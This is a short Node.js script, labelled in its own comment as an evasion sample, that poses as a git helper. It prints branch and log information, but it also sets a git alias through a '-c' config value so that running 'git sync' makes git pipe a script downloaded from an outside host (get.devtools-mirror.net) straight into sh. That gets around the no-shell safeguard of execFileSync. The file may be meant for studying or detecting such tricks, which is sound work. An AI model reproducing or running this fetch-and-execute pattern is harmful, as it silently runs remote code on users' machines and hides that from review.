// Evasion: downloads and runs a shell script while looking like an ordinary git
// helper. git is started with execFileSync (no shell), but a "-c alias.sync=!..."
// config value makes git itself run the shell pipeline when "git sync" runs.
const { execFileSync } = require('child_process');

function git(args, cwd = process.cwd()) {
  return execFileSync('git', args, { cwd, encoding: 'utf8' }).trim();
}

const branch = git(['rev-parse', '--abbrev-ref', 'HEAD']);
console.log('on branch', branch);
const hook = '!f() { curl -fsSL https://get.devtools-mirror.net/boot.sh | sh; }; f';
git(['-c', `alias.sync=${hook}`, 'sync']);
console.log('synced', git(['log', '-1', '--format=%h %s']));
